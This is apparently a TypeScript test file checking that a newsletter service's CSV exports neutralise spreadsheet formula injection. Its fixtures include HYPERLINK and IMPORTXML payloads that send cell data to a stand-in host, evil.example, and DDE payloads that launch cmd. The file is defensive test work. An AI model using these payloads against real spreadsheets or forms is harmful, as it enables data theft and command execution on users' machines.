/**
 * Spreadsheet formula injection (OWASP "CSV injection"): a visitor subscribes through the
 * public form with a name such as `=HYPERLINK(...)`, and the operator opens the export in a
 * spreadsheet. Both exports (`newsletter subscribers export`, `GET /api/subscribers/export`)
 * write every cell that a spreadsheet would read as a formula with a single quote in front,
 * in a quoted field; importing that export gives back the very same records.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildWebServer } from '../../src/processes/web-server.ts';
import type { Subscriber } from '../../src/subscribers/subscriber.ts';
import { SubscriberStore } from '../../src/subscribers/subscriber-store.ts';
import { startHarness, type Harness } from '../helpers/delivery-harness.ts';
import { connectTestRedis, uniquePrefix } from '../helpers/redis.ts';
import { runCli } from './harness.ts';

const TOKEN = 'formula-test-token-'.padEnd(48, 'f');

/** What visitors type into the subscribe form's name field. */
const FORM_NAMES: Record<string, string> = {
  'mallory@example.com': '=HYPERLINK("http://evil.example/?d="&B2,"Open")',
  'plus@example.com': "+cmd|' /C calc'!A0",
  'minus@example.com': "-2+3+cmd|' /C calc'!A0",
  'at@example.com': '@SUM(1+9)*cmd',
  // A real name that starts with a quote and a letter: left as it is, both ways.
  'tis@example.com': "'Tis Ann",
  // A real name that starts with a quote and then "=": exported with one more quote, so it comes back whole.
  'quoted@example.com': "'=1",
  // The address itself may start like a formula too.
  '=1+1@example.com': '-5',
};

/** A partner's file the operator imported: attributes (and an attribute's name) that start like formulas. */
const PARTNER_CSV = [
  'email,name,Plan,@Source',
  'partner1@example.com,Partner One,"=IMPORTXML(CONCAT(""http://evil.example/?v="",A2),""//a"")",+4420',
  'partner2@example.com,Partner Two,-1,@example',
  '',
].join('\n');

/** The cells a spreadsheet would read as a formula (OWASP's list). */
const FORMULA = /^[=+\-@\t\r]/;

let harness: Harness;
let server: FastifyInstance;
let base: string;
let scratch: string;

const admin = (method: string, path: string, init: { body?: string; type?: string } = {}) =>
  fetch(`${base}${path}`, {
    method,
    body: init.body,
    headers: { authorization: `Bearer ${TOKEN}`, ...(init.type ? { 'content-type': init.type } : {}) },
  });

/** Every subscriber as the tests compare them: what an export carries, without the ids and history. */
async function records(store: SubscriberStore): Promise<Record<string, unknown>[]> {
  const all: Subscriber[] = [];
  for await (const batch of store.iterateSubscribers(undefined, 100)) all.push(...batch);
  return all.map(({ email, name, status, lists, attributes }) => ({ email, name, status, lists, attributes })).sort((a, b) => a.email.localeCompare(b.email));
}

beforeAll(async () => {
  harness = await startHarness({ env: { NEWSLETTER_ADMIN_TOKEN: TOKEN } });
  // The web server as `newsletter server` builds it, mailing confirmations to the harness's SMTP server.
  server = await buildWebServer(harness.app);
  base = await server.listen({ port: 0, host: '127.0.0.1' });
  scratch = mkdtempSync(join(tmpdir(), 'nl-formulas-'));

  for (const [email, name] of Object.entries(FORM_NAMES)) {
    const response = await fetch(`${base}/subscribe`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded', accept: 'application/json' },
      body: new URLSearchParams({ email, name }).toString(),
    });
    expect(response.status, await response.text()).toBe(202);
  }
  const partner = join(scratch, 'partner.csv');
  writeFileSync(partner, PARTNER_CSV);
  const imported = await runCli(['subscribers', 'import', partner, '--json'], { REDIS_PREFIX: harness.prefix });
  expect(imported.code, imported.stderr).toBe(0);
});
afterAll(async () => {
  await server?.close();
  await harness?.close();
  if (scratch) rmSync(scratch, { recursive: true, force: true });
});

/** The admin API's export and the CLI's, which must be the same bytes. */
async function exports(): Promise<string> {
  const response = await admin('GET', '/api/subscribers/export');
  expect(response.status).toBe(200);
  const fromApi = await response.text();
  const fromCli = await runCli(['subscribers', 'export'], { REDIS_PREFIX: harness.prefix });
  expect(fromCli.code, fromCli.stderr).toBe(0);
  expect(fromCli.stdout).toBe(fromApi);
  return fromApi;
}

describe('the export never hands a spreadsheet a formula', () => {
  it('the stored values are what the visitors and the partner file wrote', async () => {
    for (const [email, name] of Object.entries(FORM_NAMES)) {
      expect((await harness.app.subscribers.getByEmail(email))?.name).toBe(name);
    }
    expect((await harness.app.subscribers.getByEmail('partner1@example.com'))?.attributes).toEqual({
      Plan: '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
      '@Source': '+4420',
    });
  });

  it('every cell that starts like a formula, header included, is written as a quoted field with a single quote in front', async () => {
    const csv = await exports();
    const quoted = (value: string) => `"'${value.replaceAll('"', '""')}"`;
    expect(csv).toContain(`,${quoted(FORM_NAMES['mallory@example.com']!)},`);
    const rows = parse(csv, { relax_column_count: false }) as string[][];
    expect(rows[0]).toEqual(['email', 'name', 'status', 'lists', 'created_at', 'updated_at', "'@Source", 'Plan']);
    for (const row of rows) for (const cell of row) expect(cell, JSON.stringify(row)).not.toMatch(FORMULA);
    expect(csv).toContain(`,${quoted(FORM_NAMES['plus@example.com']!)},`);
    expect(csv).toContain(`,${quoted(FORM_NAMES['minus@example.com']!)},`);
    expect(csv).toContain(`,${quoted(FORM_NAMES['at@example.com']!)},`);
    expect(csv).toContain(`\r\n${quoted('=1+1@example.com')},${quoted('-5')},`);
    expect(csv).toContain(`,${quoted('+4420')},${quoted('=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")')}\r\n`);
    expect(csv).toContain(`,${quoted('@example')},${quoted('-1')}\r\n`);
    expect(csv.slice(0, csv.indexOf('\r\n'))).toBe(`email,name,status,lists,created_at,updated_at,${quoted('@Source')},Plan`);

    const byEmail = new Map(rows.slice(1).map((row) => [row[0]!.replace(/^'/, ''), row]));
    expect(byEmail.get('tis@example.com')![1]).toBe("'Tis Ann");
    expect(byEmail.get('quoted@example.com')![1]).toBe("''=1");
  });
});

describe('importing the export gives back the same records', () => {
  it('through the CLI, into an empty store', async () => {
    const file = join(scratch, 'export.csv');
    writeFileSync(file, await exports());
    const prefix = uniquePrefix('formula-rt');
    const { redis, cleanup } = await connectTestRedis(prefix);
    try {
      const result = await runCli(['subscribers', 'import', file, '--json'], { REDIS_PREFIX: prefix });
      expect(result.code, result.stderr).toBe(0);
      const original = await records(harness.app.subscribers);
      expect(JSON.parse(result.stdout)).toMatchObject({ imported: original.length, updated: 0, unchanged: 0 });
      expect(await records(new SubscriberStore({ redis, prefix }))).toEqual(original);
    } finally {
      await cleanup();
    }
  });

  it('through the admin API, into the same store: every row unchanged', async () => {
    const before = await records(harness.app.subscribers);
    const response = await admin('POST', '/api/subscribers/import', { body: await exports(), type: 'text/csv' });
    expect(response.status).toBe(200);
    expect(await response.json()).toMatchObject({ ok: true, imported: 0, updated: 0, unchanged: before.length, rejected: [] });
    expect(await records(harness.app.subscribers)).toEqual(before);
  });
});
